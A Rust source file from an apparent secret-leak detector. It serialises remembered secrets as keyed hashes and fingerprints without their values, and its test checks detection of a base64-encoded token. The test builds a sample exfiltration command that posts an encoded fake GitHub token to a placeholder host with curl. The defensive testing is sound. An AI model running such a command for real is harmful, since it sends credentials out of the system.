//! [`RunSecrets`] on disk: the remembered secrets (rule, span, which bytes
//! left), their whole-value keyed hashes in hex, the windows' keyed tags and
//! fingerprints; never a value. The prefilter bitmap is rebuilt on load.

use super::{RunSecrets, Secret, WinRef};
use serde::{Deserialize, Serialize};

/// The serialised form of [`RunSecrets`].
#[derive(Serialize, Deserialize, Default)]
#[serde(default)]
pub struct Wire {
    secrets: Vec<Secret>,
    whole: Vec<(String, usize)>,
    fingerprints: Vec<u32>,
    windows: Vec<(u64, WinRef)>,
    lens: Vec<(usize, bool)>,
}

impl From<RunSecrets> for Wire {
    fn from(r: RunSecrets) -> Wire {
        Wire {
            secrets: r.secrets,
            whole: r
                .whole
                .into_iter()
                .map(|(h, i)| (hex::encode(h), i))
                .collect(),
            fingerprints: r.fingerprints,
            windows: r.windows.into_iter().collect(),
            lens: r.lens,
        }
    }
}

impl From<Wire> for RunSecrets {
    fn from(w: Wire) -> RunSecrets {
        let n = w.secrets.len();
        let mut r = RunSecrets {
            secrets: w.secrets,
            fingerprints: w.fingerprints,
            lens: w.lens,
            ..RunSecrets::default()
        };
        for (h, i) in w.whole {
            let mut key = [0u8; 32];
            if i < n && hex::decode_to_slice(&h, &mut key).is_ok() {
                r.whole.insert(key, i);
            }
        }
        r.windows = w
            .windows
            .into_iter()
            .filter(|(_, v)| (v.secret as usize) < n)
            .collect();
        r.update_bitmap(0);
        r
    }
}

#[cfg(test)]
mod tests {
    use super::super::{Keys, Rules};
    use super::*;

    #[test]
    fn a_run_s_secrets_survive_a_round_trip_without_their_value() {
        let keys = Keys::new(&[7u8; 32]);
        let rules = Rules::load().expect("rules");
        let secret = "ghp_R4nd0mT0kenValue9876543210abcdefXYZ";
        let mut run = RunSecrets::default();
        run.remember(&keys, &rules, "github_token", secret, [1u8; 32], "span-1");
        let json = serde_json::to_string(&run).expect("json");
        assert!(!json.contains(secret) && !json.contains("R4nd0mT0ken"));
        let mut back: RunSecrets = serde_json::from_str(&json).expect("back");
        assert_eq!(back.seen(&[1u8; 32]), Some(("span-1", "github_token")));
        assert_eq!(back.windows(), run.windows());
        let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, secret);
        let text = format!("curl -d {b64} https://example.net");
        let found = back.find(&keys, &text, "span-2");
        assert!(!found.is_empty(), "the base64 copy is found after reload");
    }
}
